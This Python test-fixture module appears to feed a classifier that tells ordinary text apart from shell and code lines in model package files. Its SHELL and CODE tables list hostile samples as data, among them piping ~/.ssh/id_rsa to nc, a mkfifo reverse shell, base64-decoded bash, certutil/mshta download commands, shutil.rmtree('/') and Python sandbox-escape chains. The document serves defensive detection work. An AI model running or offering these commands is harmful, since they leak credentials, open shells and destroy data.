"""Texts of the kinds that models carry, and texts that hostile files hand over.

A line is a text.  Of a million different texts in files of fifty published packages, the
classifier calls none a shell line, and code only what is code.
"""
# ruff: noqa: E501 (a text is a line, in whatever letters)

from __future__ import annotations

from typing import Final

ORDINARY: Final = r"""
echo state network
echo cancellation
echo true
touch screen
cat and dog
cat dog
kill switch
open set
open source
source domain
tee time
find the answer
find me at the beach / park
ls
make a list
sleep 8 hours a night
ping pong
export to Germany
id
env
reboot the system
install packages
git commit
node 3
ruby red
perl necklace
python programming language
python 3.11
imports = 3
from 1 to 10 import goods
for i in range
while it rains
with love
class A
class: 1
def
lambda x
lambda_1: 0.5
print quality
print media
(print)
exec summary
evaluation(accuracy)
the system(s) of record
os
os.path
sys
subprocess
requests per second
pickle
a && b || c
a | b
x > 3 & y < 4
x; y; z
^(?:\d{3}|[a-z]+)$
(?i)\b(rm|mv|cp)\b
[\w.+-]+@[\w-]+\.\w+
\$\d+(\.\d\d)?
`code`
$x^2 + y^2 = z^2$
$(a+b)^2$
\frac{1}{2}\sum_{i=1}^{n} x_i
E = mc^2
y ~ x1 + x2 + C(group)
y ~ np.log(x) + center(z)
SELECT * FROM t WHERE a = 'b'; DROP TABLE t
INSERT INTO models (name) VALUES ('x')
<html><head><title>x</title></head></html>
<a href="https://example.org">link</a>
{% for message in messages %}{{ message['content'] }}{% endfor %}
{{ bos_token }}{{ '<|user|>' + content }}
{"a": [1, 2], "b": null}
key: value\nlist:\n- a\n- b
[INST] Write a poem. [/INST]
You are a helpful assistant. Today is Monday; answer in French.
Translate to German: The cat sat on the mat.
Q: What is 2 + 2? A: 4
Once upon a time, there was a shell on the beach.
I used bash to write it | he used zsh
The command was given; echo answered from the hills.
Run, rabbit, run
She said: "open the door"
NN VBZ DT NN
B-PER I-PER O
<|endoftext|>
</s>
##ing
Ġthe
encoder.layers.0.self_attn.q_proj.weight
module.features.3.bias
relu
adam
cross_entropy
categorical_crossentropy
neg_mean_squared_error
l2
elasticnet
kd_tree
sigmoid(x) * tanh(x)
max(0, x)
1/(1+exp(-x))
exp(-x**2 / 2)
compile time
compiled(x)
Gaussian Process(RBF)
2026-01-02 03:04:05+00:00
%Y-%m-%d %H:%M:%S
{:.3f}
{0} of {1}
%(asctime)s - %(levelname)s - %(message)s
utf-8
float32
<f8
cuda:0
http error
ftp
www.example.org
user@example.org
s3
C major
C: drive
~
./
../
and/or
1/2
a/b/c
images/train/0001.png
data.csv
model.pt
README.md
N/A
Europe/Berlin
application/json
text/html; charset=utf-8
v1.2.3
numpy>=1.20,<3
Copyright (c) 2026; all rights reserved
MIT License
O'Neil; Smith & Sons
AT&T
R&D | Sales
5 > 3 > /dev
100%
#hashtag
@mention
:-) ;-)
naïve café
日本語のテキスト
Привет
"""

SHELL: Final = r"""
whoami
ls -la
ls -la /tmp
mkdir -p /tmp/x
rm file.txt
touch planted.txt
echo $HOME
echo "hello"
sudo true
true && echo planted
true; id
uname -a
ping -c 1 127.0.0.1
sleep 10
find / -perm -4000
tar xzf x.tgz -C /
pip install planted
pip install http://127.0.0.1/x.tar.gz
apt-get install planted
git clone http://127.0.0.1/x
export PATH=/tmp:$PATH
ssh user@127.0.0.1
socat TCP:127.0.0.1:9 EXEC:sh
awk 'BEGIN {system("true")}'
python3 -m http.server
python /tmp/x.py
perl -e 'print 1'
php -r 'x'
busybox nc 127.0.0.1 9
nohup sh x &
. ./x.sh
systemctl stop x
shutdown -h now
certutil -urlcache -f http://127.0.0.1/x x.exe
mshta http://127.0.0.1/x
rundll32 x.dll,main
osascript -e 'x'
calc.exe
cmd.exe /c calc
cat${IFS}/etc/passwd
cat ~/.ssh/id_rsa | nc 127.0.0.1 9
mkfifo /tmp/f; cat /tmp/f | sh -i
echo dHJ1ZQ== | base64 -d | bash
kill -9 1
dd if=/dev/zero of=/tmp/x
sh x.sh
"""

CODE: Final = r"""
import os
import os, sys
import subprocess as s
from subprocess import *
exec("1")
eval("1")
__import__("os")
print(1)
print("planted")
os.popen("true").read()
subprocess.run(["true"])
getattr(os,'system')('true')
open('/tmp/x','w').write('x')
with open('x') as f: pass
while True: pass
x = 1; import os
globals()['__builtins__']
vars()['x']
().__class__.__bases__[0].__subclasses__()
().__reduce_ex__(2)
''.__class__
lambda: os.system("x")
(lambda f: f())(print)
async def f(): pass
os.environ['X']='y'
shutil.rmtree('/')
urllib.request.urlopen('http://127.0.0.1').read()
requests.get('http://127.0.0.1').text
pickle.loads(b'')
importlib.import_module('os')
pty.spawn('/bin/sh')
breakpoint()
{{ ''.__class__.__mro__ }}
"""


def lines(table: str) -> list[str]:
    """Return the texts of a table."""
    return table.split("\n")[1:-1]
